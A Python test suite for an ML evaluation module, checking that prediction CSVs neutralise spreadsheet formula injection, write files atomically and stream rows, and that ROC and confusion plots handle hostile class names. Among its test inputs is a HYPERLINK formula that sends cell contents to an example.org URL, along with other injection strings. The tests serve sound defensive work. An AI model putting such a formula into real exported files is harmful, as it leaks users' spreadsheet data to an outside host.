"""predictions.csv and the pictures: whole, readable, and harmless whatever the names are."""

import csv
import math
import os
import sys
import tracemalloc
from collections import Counter

import pytest
import torch
from hypothesis import example, given, settings
from hypothesis import strategies as st

from ssl.data.decode import decode
from ssl.evaluation import plots
from ssl.evaluation.metrics import classification
from ssl.evaluation.predictions import PLAIN_NUMBER, RUN_BY_SPREADSHEETS, Row, write_predictions, write_rows

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"see")'


def read(path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as file:
        return list(csv.reader(file, strict=True))


def test_predictions_read_back(tmp_path):
    scores = torch.tensor([[0.1, 0.7, 0.2], [1 / 3, 1 / 3, 1 / 3], [0.0, 1e-30, 1.0]])
    path = tmp_path / "predictions.csv"
    write_predictions(path, ["a.png", "sub/b, c.png", 'd"e.png'], torch.tensor([1, -1, 0]), scores, ["x", "y", "z"])
    header, *rows = read(path)
    assert header == ["name", "label", "predicted", "score_x", "score_y", "score_z"]
    assert [row[:3] for row in rows] == [["a.png", "y", "y"], ["sub/b, c.png", "", "x"], ['d"e.png', "x", "z"]]
    assert torch.equal(torch.tensor([[float(cell) for cell in row[3:]] for row in rows]), scores)


@settings(max_examples=200, deadline=None)
@example(FORMULA, "-2+3")
@example("\r=1", "@SUM(A1)")
@example("＝1\n2", "plain")
@given(st.text(st.characters(exclude_characters="\0")), st.text(st.characters(exclude_characters="\0")))
def test_no_cell_is_run_and_every_name_comes_back(tmp_path_factory, name, label):
    path = tmp_path_factory.getbasetemp() / "hostile.csv"
    write_predictions(path, [name], torch.tensor([0]), torch.tensor([[0.75, 0.25]]), [label, "other"])
    header, row = read(path)
    run = [cell for cell in header + row if cell.startswith(RUN_BY_SPREADSHEETS)]
    assert all(PLAIN_NUMBER.fullmatch(cell) and math.isfinite(float(cell)) for cell in run)
    written = name.encode("utf-8", "backslashreplace").decode()
    assert row[0] in (written, "'" + written)
    assert len(header) == len(row) == 5 and row[1] == row[2] and row[3:] == ["0.75", "0.25"]


@pytest.mark.parametrize("label", ["-1", "+3.5", "-1e-3", "-.5", "+2.", "-1E+05"])
def test_plain_numbers_stay_as_they_are(tmp_path, label):
    write_predictions(tmp_path / "p.csv", [label], torch.tensor([0]), torch.tensor([[1.0]]), [label])
    assert read(tmp_path / "p.csv")[1][:3] == [label] * 3


@pytest.mark.parametrize(
    "label", ["-1+2", "+1-1", "-A1", "=1", "-", "+e5", "-1\n", "-1 +2", "+1e5e5", "-１", "--1", "-0x1"]
)
def test_what_only_begins_as_a_number_is_not_run(tmp_path, label):
    write_predictions(tmp_path / "p.csv", [label], torch.tensor([0]), torch.tensor([[1.0]]), [label])
    assert read(tmp_path / "p.csv")[1][:3] == ["'" + label] * 3


def test_control_plain_csv_would_hold_the_formula(tmp_path, monkeypatch):
    monkeypatch.setattr("ssl.evaluation.predictions.RUN_BY_SPREADSHEETS", ())
    write_predictions(tmp_path / "p.csv", [FORMULA], torch.tensor([0]), torch.tensor([[1.0]]), ["a"])
    assert read(tmp_path / "p.csv")[1][0] == FORMULA


def test_a_name_that_is_no_utf8(tmp_path):
    write_predictions(tmp_path / "p.csv", [os.fsdecode(b"\xff.png")], torch.tensor([0]), torch.tensor([[1.0]]), ["a"])
    assert read(tmp_path / "p.csv")[1][0] == r"\udcff.png"


def test_an_old_file_stays_where_the_new_one_cannot_be_written(tmp_path, monkeypatch):
    path = tmp_path / "p.csv"
    path.write_text("old")

    def full(*_):
        raise OSError("no space left on device")

    monkeypatch.setattr(os, "replace", full)
    with pytest.raises(OSError, match="no space"):
        write_predictions(path, ["a"], torch.tensor([0]), torch.tensor([[1.0]]), ["a"])
    assert path.read_text() == "old" and os.listdir(tmp_path) == ["p.csv"]


# rows as they come


@settings(max_examples=100, deadline=None)
@example("data/=1", "-2+3", "@")
@given(*[st.text(st.characters(exclude_characters="\0"))] * 3)
def test_rows_are_harmless_and_come_back(tmp_path_factory, name, label, reason):
    path = tmp_path_factory.getbasetemp() / "rows.csv"
    rows = [Row(f"data/{name}", [0.25, 0.75]), Row("data/bad", None, reason), Row("data/a", [0.5, 0.5])]
    counts = write_rows(path, iter(rows), "data/", ["first", label])
    header, *found = read(path)
    assert header[:3] == ["name", "predicted", "probability"] and header[-1] == "unread" and len(header) == 6
    run = [cell for row in [header, *found] for cell in row if cell.startswith(RUN_BY_SPREADSHEETS)]
    assert all(PLAIN_NUMBER.fullmatch(cell) and math.isfinite(float(cell)) for cell in run)
    written, because = (text.encode("utf-8", "backslashreplace").decode() for text in (name, reason))
    assert found[0][0] in (written, "'" + written) and found[0][2:] == ["0.75", "0.25", "0.75", ""]
    assert found[1][:-1] == ["bad", "", "", "", ""] and found[1][-1] in (because, "'" + because)
    assert found[2][:3] == ["a", "first", "0.5"]  # the first of equals, as of write_predictions
    assert counts == Counter({label: 1}) + Counter({"first": 1})


def test_rows_are_not_kept(tmp_path):
    """The memory for 20,000 rows is what the largest buffer takes; a list of them takes many times that."""

    def rows(count: int):
        for number in range(count):
            yield Row(f"{number}.png", [number / count] * 10)

    def peak(make) -> int:
        tracemalloc.start()
        try:
            make()
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    write_rows(tmp_path / "warm.csv", rows(2), "", list("abcdefghij"))
    streamed = peak(lambda: write_rows(tmp_path / "p.csv", rows(20_000), "", list("abcdefghij")))
    assert len(read(tmp_path / "p.csv")) == 20_001
    assert streamed < 1 << 20 < 1 << 22 < peak(lambda: list(rows(20_000)))  # the last is the control


def test_no_file_is_left_by_rows_that_end_in_an_error(tmp_path):
    def rows():
        yield Row("a.png", [1.0])
        raise RuntimeError("the second image")

    with pytest.raises(RuntimeError, match="the second image"):
        write_rows(tmp_path / "p.csv", rows(), "", ["a"])
    assert not os.listdir(tmp_path)


# pictures


def made(classes: int, absent: int | None = None):
    generator = torch.Generator().manual_seed(0)
    labels = torch.randint(classes, (300,), generator=generator)
    labels[labels == absent] = 0
    scores = (torch.randn(300, classes, generator=generator) + 2 * torch.eye(classes)[labels]).softmax(1)
    return scores, labels


def draw_both(folder, classes: list[str], absent: int | None = None) -> list[bool]:
    scores, labels = made(len(classes), absent)
    matrix = classification(scores, labels, classes)["confusion"]
    return [
        plots.roc(folder / "roc.png", scores, labels, classes),
        plots.confusion(folder / "confusion.png", matrix, classes),
    ]


def test_without_matplotlib_nothing_is_drawn_and_nothing_fails(tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "matplotlib", None)
    assert draw_both(tmp_path, ["a", "b"]) == [False, False]
    assert not os.listdir(tmp_path)


@pytest.mark.parametrize("classes", [2, 3, 20, 70])
def test_pictures_are_drawn(tmp_path, classes):
    pytest.importorskip("matplotlib", reason="pictures are drawn where matplotlib is installed")
    assert draw_both(tmp_path, [f"class {i}" for i in range(classes)], absent=classes - 1) == [True, True]
    assert sorted(os.listdir(tmp_path)) == ["confusion.png", "roc.png"]
    for name in os.listdir(tmp_path):
        pixels = decode(tmp_path / name)
        assert min(pixels.shape[1:]) > 300 and pixels.unique().numel() > 20


def test_names_are_drawn_as_they_are(tmp_path):
    matplotlib = pytest.importorskip("matplotlib", reason="pictures are drawn where matplotlib is installed")
    names = [r"$\frac{$", r"\$\frac{\$", "_hidden", "", "x" * 5000, "a\nb\x1b[31m", os.fsdecode(b"\xff"), "中文"]
    with matplotlib.rc_context({"text.usetex": True, "figure.dpi": 3}):  # the user's settings
        assert draw_both(tmp_path, names) == [True, True]
        assert matplotlib.rcParams["text.usetex"]
    assert max(max(decode(path).shape[1:]) for path in tmp_path.iterdir()) < 2500


def test_control_matplotlib_would_take_such_a_name_for_a_formula(tmp_path):
    figure = pytest.importorskip("matplotlib.figure", reason="pictures are drawn where matplotlib is installed")
    drawn = figure.Figure()
    drawn.text(0, 0, r"$\frac{$")
    with pytest.raises(ValueError, match="frac"):
        drawn.savefig(tmp_path / "x.png")


def test_a_picture_is_written_whole_or_not_at_all(tmp_path, monkeypatch):
    figure = pytest.importorskip("matplotlib.figure", reason="pictures are drawn where matplotlib is installed")
    (tmp_path / "roc.png").write_bytes(b"old")

    def breaks(self, file, **_):
        file.write(b"half")
        raise OSError("no space left on device")

    monkeypatch.setattr(figure.Figure, "savefig", breaks)
    with pytest.raises(OSError, match="no space"):
        draw_both(tmp_path, ["a", "b"])
    assert os.listdir(tmp_path) == ["roc.png"] and (tmp_path / "roc.png").read_bytes() == b"old"
